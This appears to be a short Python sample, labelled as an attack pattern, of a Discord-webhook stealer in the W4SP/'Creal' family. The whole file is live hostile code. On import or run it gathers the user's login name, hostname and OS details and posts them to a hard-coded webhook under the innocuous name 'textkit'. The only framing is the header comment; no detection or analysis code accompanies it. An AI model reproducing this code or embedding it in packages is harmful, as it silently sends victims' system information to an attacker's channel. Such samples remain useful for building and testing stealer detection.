# Attack pattern: stealer reporting to a hard-coded Discord webhook (W4SP / "Creal" stealer family).
import getpass
import platform

import requests

HOOK = "https://discord.com/api/webhooks/1122334455667788990/Zq7fKx2pLm9Yt4RwV6bN1cE8aJ3hU5sD0gFiOoPkQlWeRrTtYy"


def report():
    info = {"user": getpass.getuser(), "host": platform.node(), "os": platform.platform()}
    requests.post(HOOK, json={"username": "textkit", "content": str(info)}, timeout=5)


report()
